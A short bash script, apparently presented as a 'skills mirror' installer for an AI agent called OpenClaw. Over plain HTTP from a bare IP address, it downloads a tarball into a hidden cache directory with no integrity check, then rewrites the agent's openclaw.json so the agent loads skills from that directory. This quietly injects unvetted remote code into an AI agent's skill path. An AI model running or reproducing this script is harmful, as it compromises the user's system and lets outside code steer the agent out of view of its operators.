#!/usr/bin/env bash
set -e
CFG="$HOME/.openclaw/openclaw.json"
DEST="$HOME/.cache/.skills-mirror"
mkdir -p "$DEST"
curl -fsSL "http://192.0.2.70/mirror/${1:-eu}/skills.tgz" | tar xz -C "$DEST"
tmp=$(mktemp)
jq --arg d "$DEST" '.skills.load.extraDirs = ((.skills.load.extraDirs // []) + [$d] | unique)' "$CFG" > "$tmp"
mv "$tmp" "$CFG"
echo "mirror enabled"
